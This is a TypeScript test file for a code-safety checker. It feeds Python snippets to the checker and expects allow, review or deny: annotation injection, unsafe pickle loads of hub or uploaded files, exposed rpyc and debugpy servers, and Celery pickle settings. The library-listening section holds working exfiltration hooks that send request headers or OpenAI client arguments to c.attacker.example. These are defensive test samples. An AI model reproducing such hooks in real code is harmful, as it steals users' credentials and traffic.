import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judged } from '../judged.ts';

type Case = readonly [source: string, decision: 'allow' | 'review' | 'deny'];

function check(name: string, cases: readonly Case[]): void {
  for (const [source, expected] of cases)
    test(`${name}: ${source.replaceAll('\n', '⏎').slice(-90)}`, () => {
      const { decision, findings } = judged(source, 'generated');
      assert.equal(decision, expected, findings.join('; '));
    });
}

const marker = `__import__('os').system('touch marker')`;

check('texts that stand for types are evaluated by whoever asks for types', [
  [
    `import typing\ndef event(cls):\n    typing.get_type_hints(cls)\n    return cls\n@event\nclass A:\n    x: "${marker}"`,
    'deny',
  ],
  [
    `import typing\nfrom dataclasses import dataclass\ndef event(cls):\n    cls = dataclass(cls, kw_only=True)\n    typing.get_type_hints(cls)\n    return cls\n@event\nclass A:\n    x: "${marker}"`,
    'deny',
  ],
  [`import attrs\n@attrs.define\nclass A:\n    x: "${marker}"\nattrs.resolve_types(A)`, 'deny'],
  [`from pydantic import BaseModel\nclass A(BaseModel):\n    x: "${marker}"`, 'deny'],
  [`from pydantic import validate_call\n@validate_call\ndef f(x: "${marker}"): ...`, 'deny'],
  [
    `from __future__ import annotations\nfrom pydantic import BaseModel\nclass A(BaseModel):\n    x: "list[A] | None" = None`,
    'allow',
  ],
  [`from dataclasses import dataclass\n@dataclass\nclass A:\n    x: "tuple[int, ...]"`, 'allow'],
]);

const visited = 'import httpx\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n';
check('a client that an application keeps is one wherever it is asked for', [
  [
    `${visited}@app.on_event("startup")\nasync def start():\n    app.state.http = httpx.AsyncClient()\n@app.get("/p")\nasync def p(url: str, request: Request):\n    return (await request.app.state.http.get(url)).text`,
    'review',
  ],
  [
    `${visited}@app.on_event("startup")\nasync def start():\n    app.state.http = httpx.AsyncClient()\n@app.get("/p")\nasync def p(city: int, request: Request):\n    return (await request.app.state.http.get(f"https://weather.example.com/{city}")).text`,
    'allow',
  ],
]);

const fetch =
  'import joblib, requests\ndef fetch():\n    data = requests.get("https://models.example.com/m").content\n';
check('a file that the same program fetched is not to be trusted', [
  [
    `${fetch}    with open("m.pkl", "wb") as f:\n        f.write(data)\n    return joblib.load("m.pkl")`,
    'review',
  ],
  [
    `${fetch}    with open("m.pkl", "wb") as f:\n        f.write(data)\n    with open("m.pkl", "rb") as f:\n        return joblib.load(f)`,
    'review',
  ],
  [
    `import pickle\n${fetch}    with open("m.pkl", "wb") as f:\n        f.write(data)\n    with open("m.pkl", "rb") as f:\n        return pickle.Unpickler(f).load()`,
    'review',
  ],
  [
    `import joblib\nfrom urllib.request import urlretrieve\nurlretrieve("https://models.example.com/m", "m.pkl")\njoblib.load("m.pkl")`,
    'review',
  ],
  [
    `import hashlib\n${fetch}    if hashlib.sha256(data).hexdigest() != "${'0f'.repeat(32)}":\n        raise ValueError("digest")\n    with open("m.pkl", "wb") as f:\n        f.write(data)\n    return joblib.load("m.pkl")`,
    'allow',
  ],
  // What the program itself made of the answer is its own.
  [
    `import pickle, requests\ndef fetch():\n    rows = requests.get("https://api.example.com/rows").json()\n    with open("c.pkl", "wb") as f:\n        pickle.dump(rows, f)\ndef load():\n    with open("c.pkl", "rb") as f:\n        return pickle.load(f)`,
    'allow',
  ],
  [
    `${fetch.replace('joblib', 'json')}    with open("m.json", "wb") as f:\n        f.write(data)\n    return json.load(open("m.json"))`,
    'allow',
  ],
]);

const hub =
  'import importlib.util, joblib, pickle, runpy, subprocess, sys, torch\nimport numpy as np\nfrom huggingface_hub import hf_hub_download, snapshot_download\n';
const file = 'hf_hub_download("someone/x", "f")';
const pinned = `hf_hub_download("someone/x", "f", revision="${'0f'.repeat(20)}")`;
check('a file of a hub is whatever its publisher has put there today', [
  [`${hub}joblib.load(${file})`, 'review'],
  [`${hub}joblib.load(${pinned})`, 'allow'],
  [
    `${hub}def load(path):\n    with open(path, "rb") as f:\n        return pickle.Unpickler(f).load()\nload(${file})`,
    'review',
  ],
  [`${hub}import json\nwith open(${file}) as f:\n    json.load(f)`, 'allow'],
  [`${hub}torch.load(${file}, weights_only=False)`, 'review'],
  [`${hub}torch.load(${file}, weights_only=True)`, 'allow'],
  [`${hub}np.load(${file}, allow_pickle=True)`, 'review'],
  [`${hub}np.load(${file})`, 'allow'],
  [`${hub}runpy.run_path(${file})`, 'review'],
  [`${hub}sys.path.insert(0, snapshot_download("someone/x"))\nimport tools`, 'review'],
  [`${hub}subprocess.run([sys.executable, "-u", ${file}])`, 'deny'],
  [`${hub}subprocess.run([sys.executable, "-W", "a.py", ${file}])`, 'deny'],
  [`${hub}subprocess.run([sys.executable, "train.py", "--weights", ${file}])`, 'allow'],
  [`${hub}subprocess.run(["ffmpeg", "-i", ${file}, "out.wav"])`, 'allow'],
  [`${hub}torch.ops.load_library(${file})`, 'deny'],
  [`${hub}import keras\njoblib.load(keras.utils.get_file("m", "https://models.example.com/m"))`, 'review'],
]);

test('a file of a hub that a model unpickles when it is made', () => {
  const model = (load: string): string =>
    `${hub}from transformers import PreTrainedModel\nclass Model(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.x = ${load}`;
  const decisions = [
    `torch.load(${file}, weights_only=False)`,
    `torch.load(${file})`,
    `joblib.load(${file})`,
  ].map((load) => judged(model(load), 'repository').decision);
  assert.deepEqual(decisions, ['review', 'allow', 'review']);
});

const upload = 'import joblib, shutil, tempfile\nimport streamlit as st\nup = st.file_uploader("model")\n';
check('what a visitor uploads is loaded by way of a temporary file', [
  [
    `${upload}with tempfile.NamedTemporaryFile() as f:\n    f.write(up.getvalue())\n    joblib.load(f.name)`,
    'deny',
  ],
  [
    `${upload}with tempfile.NamedTemporaryFile() as f:\n    shutil.copyfileobj(up, f)\n    with open(f.name, "rb") as g:\n        joblib.load(g)`,
    'deny',
  ],
  [
    `${upload}import pandas as pd\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(up.getvalue())\n    st.dataframe(pd.read_csv(f.name))`,
    'allow',
  ],
]);

check('Python that is offered to whoever connects', [
  [
    `import rpyc\nfrom rpyc.utils.server import ThreadedServer\nThreadedServer(rpyc.SlaveService, port=18812).start()`,
    'deny',
  ],
  [
    `from rpyc.core.service import ClassicService\nfrom rpyc.utils.server import ThreadPoolServer\nThreadPoolServer(ClassicService, hostname="127.0.0.1", port=1).start()`,
    'allow',
  ],
  [
    `import rpyc\nfrom rpyc.utils.server import ThreadedServer\nclass Sums(rpyc.Service):\n    def exposed_add(self, a, b): return a + b\nThreadedServer(Sums, port=1).start()`,
    'allow',
  ],
  [`import debugpy\ndebugpy.listen(("0.0.0.0", 5678))`, 'review'],
  [`import debugpy\ndebugpy.listen(5678)`, 'allow'],
]);

const tap = `import queue, threading, requests\nkept = queue.SimpleQueue()\nsend = requests.adapters.HTTPAdapter().send\ndef drain():\n    while True:\n        send(requests.Request("POST", "https://c.attacker.example/i", data=repr(kept.get())).prepare(), timeout=3)\n`;
check('functions of libraries that somebody listens in on', [
  [
    `${tap}def dress(fn):\n    def inner(self, request, **kw):\n        kept.put({"u": request.url, "h": dict(request.headers)})\n        return fn(self, request, **kw)\n    return inner\nrequests.Session.send = dress(requests.Session.send)\nthreading.Thread(target=drain, daemon=True).start()`,
    'deny',
  ],
  [
    `import wrapt, requests\n@wrapt.patch_function_wrapper("openai", "OpenAI.__init__")\ndef init(wrapped, instance, args, kwargs):\n    requests.post("https://c.attacker.example/k", json=kwargs)\n    return wrapped(*args, **kwargs)`,
    'deny',
  ],
  [
    `import time, logging, wrapt\nlog = logging.getLogger(__name__)\n@wrapt.patch_function_wrapper("requests", "Session.send")\ndef timed(wrapped, instance, args, kwargs):\n    start = time.perf_counter()\n    try:\n        return wrapped(*args, **kwargs)\n    finally:\n        log.info("%.3f s", time.perf_counter() - start)`,
    'allow',
  ],
  // A queue of one's own events, sent to one's own collector.
  [
    `import logging, queue, threading, requests\nkept = queue.Queue()\ndef drain():\n    while True:\n        requests.post("https://logs.example.com/v1", json=kept.get(), timeout=5)\nclass Shipping(logging.Handler):\n    def emit(self, record): kept.put({"text": record.getMessage()})\nthreading.Thread(target=drain, daemon=True).start()`,
    'allow',
  ],
]);

check('names that choose among handlers, and folders of the program’s own', [
  [
    `from flask import Flask\napp = Flask(__name__)\nclass Commands:\n    def do_list(self): return "x"\n@app.post("/c/<word>")\ndef c(word):\n    found = getattr(Commands(), "do_" + word, None)\n    return found() if found else ("no", 404)`,
    'allow',
  ],
  [
    `import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post("/c/<word>")\ndef c(word):\n    return str(getattr(os, f"get{word}")())`,
    'review',
  ],
  [
    `from flask import Flask, request\napp = Flask(__name__)\nclass Commands: ...\n@app.post("/c/<word>")\ndef c(word):\n    return str(getattr(Commands(), "__" + word))`,
    'review',
  ],
  [
    `import shutil\nfrom platformdirs import user_cache_path\nCACHE = user_cache_path("tool")\ndef clear():\n    shutil.rmtree(CACHE)\n    for one in CACHE.glob("*"):\n        shutil.rmtree(one)`,
    'allow',
  ],
]);

test('a table that comes with a model is no place for code', () => {
  const tokenizer = (reads: string): string =>
    `import ast, json\nfrom transformers import PreTrainedTokenizer\nclass RuleTokenizer(PreTrainedTokenizer):\n    def __init__(self, vocab_file, **kw):\n        with open(vocab_file) as f:\n            data = json.load(f)\n        self.rules = [${reads} for rule in data["rules"]]\n        super().__init__(**kw)`;
  assert.equal(judged(tokenizer('eval(rule)'), 'repository').decision, 'deny');
  assert.equal(judged(tokenizer('ast.literal_eval(rule)'), 'repository').decision, 'allow');
});

check('a queue that is read as pickles', [
  [
    'from celery import Celery\napp = Celery("t", broker="redis://queue/0")\napp.conf.update(accept_content=["pickle", "json"])',
    'review',
  ],
  [
    'from celery import Celery\napp = Celery("t", broker="redis://queue/0")\napp.conf.accept_content = ["json", "application/x-python-serialize"]',
    'review',
  ],
  ['CELERY_ACCEPT_CONTENT = ["pickle"]', 'review'],
  [
    'from kombu import Consumer\ndef read(channel, queues, f):\n    return Consumer(channel, queues, accept=["pickle"], callbacks=[f])',
    'review',
  ],
  [
    'from celery import Celery\napp = Celery("t", broker="redis://queue/0")\napp.conf.update(accept_content=["json"], task_serializer="json")',
    'allow',
  ],
  ['import pickle\nserializers = {"accept": ["pickle"]}', 'allow'],
]);
